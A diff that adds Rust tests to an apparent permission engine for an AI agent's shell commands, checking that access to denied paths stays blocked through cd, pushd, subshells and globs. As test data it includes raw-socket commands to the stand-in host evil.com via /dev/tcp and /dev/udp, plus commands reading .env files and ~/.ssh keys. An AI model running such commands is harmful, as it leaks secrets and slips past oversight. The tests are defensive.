@@ -299,6 +299,79 @@ fn a_path_is_judged_as_it_is_written_and_as_it_really_is() {
 }
 
 #[test]
+fn files_are_judged_wherever_cd_may_have_led() {
+    let machine = Machine::new(&[
+        (
+            "config/config.toml",
+            "[permissions]\ndeny = [\"read(priv)\", \"write(priv)\", \"net(evil.com)\"]\n",
+        ),
+        ("work/priv/f", ""),
+        ("work/sub/.env", ""),
+        ("work/.env", ""),
+        ("home/.ssh/x", ""),
+    ]);
+    let bypass = machine.in_mode(Mode::Bypass);
+    let file = machine.path("work/priv/f").display().to_string();
+    let absolute = ["> FILE", "cat FILE", "cat < FILE"]
+        .map(|line| format!("cd .; {}", line.replace("FILE", &file)));
+    let relative = [
+        "cd .; cat priv/f",
+        "cd priv; cat f",
+        "cd priv; echo x > f",
+        "cd src; cd ../priv; cat f",
+        "cd src || cat priv/f",
+        "! cd src && cat priv/f",
+        "cd priv; cd -; cat priv/f",
+        "pushd priv; cat f",
+        "pushd priv; popd; echo x > priv/f",
+        "cd \"$X\"; cat priv/f",
+        "for i in 1; do cd priv; cat f; done",
+        "f() { cat f; }; cd priv; f",
+        "cd ~; cat ../work/priv/f",
+        "cd .; (cd priv; cat f)",
+        "cd .; cat pri*/f",
+        "cd .; cat < /dev/tcp/evil.com/80",
+        "cd -; cat < /dev/udp/evil.com/80",
+    ];
+    for command in absolute.iter().map(String::as_str).chain(relative) {
+        assert_eq!(bash(command).decided(&bypass), Deny, "{command}");
+    }
+    for command in ["cd priv2; cat f", "cd src; cat f; echo x > g", "cd - && make all"] {
+        assert_eq!(bash(command).decided(&bypass), Allow, "{command}");
+    }
+    let plan = machine.in_mode(Mode::Plan);
+    for command in ["cd .; cat .env", "cd sub; cat .env", "cd ~/.ssh; cat x", "cd $X; cat .env"] {
+        assert_eq!(bash(command).decided(&plan), Deny, "{command}");
+    }
+}
+
+#[test]
+fn where_a_folder_is_not_known_rules_about_files_ask() {
+    let (machine, engine) = asking(
+        "allow = [\"bash\"]\ndeny = [\"read(priv)\", \"write(x/*.lock)\"]\n[sandbox]\nprofile = \"off\"",
+    );
+    for command in ["cd \"$X\" && cat f", "cd - && rm f", "cd $X && wc < f", "popd; sort /x y"] {
+        assert_eq!(bash(command).decided(&engine), Ask, "{command}");
+    }
+    for command in
+        ["cd \"$X\" && cat /f", "cd src && cat f", "cd src; cargo test", "cd $X && ls -l"]
+    {
+        assert_eq!(bash(command).decided(&engine), Allow, "{command}");
+    }
+    drop(machine);
+    // The sandbox keeps what is denied. What is asked about it does not.
+    let decided = |rules: &str| {
+        let machine = Machine::new(&[("config/config.toml", &format!("[permissions]\n{rules}"))]);
+        let engine = machine.in_mode(Mode::Auto);
+        ["cd $X && cat f", "cd sub && cargo test", "cd sub; cargo test"]
+            .map(|command| bash(command).decided(&engine))
+    };
+    assert_eq!(decided(""), [Allow; 3]);
+    assert_eq!(decided("deny = [\"read(priv)\"]"), [Allow; 3]);
+    assert_eq!(decided("ask = [\"read(priv)\"]"), [Deny, Allow, Allow]);
+}
+
+#[test]
 fn secrets_are_asked_about_and_examples_of_them_are_not() {
     let machine = Machine::new(&[
         ("config/config.toml", "[permissions]\nallow = [\"read(**)\", \"read(.env.ci)\"]\n"),
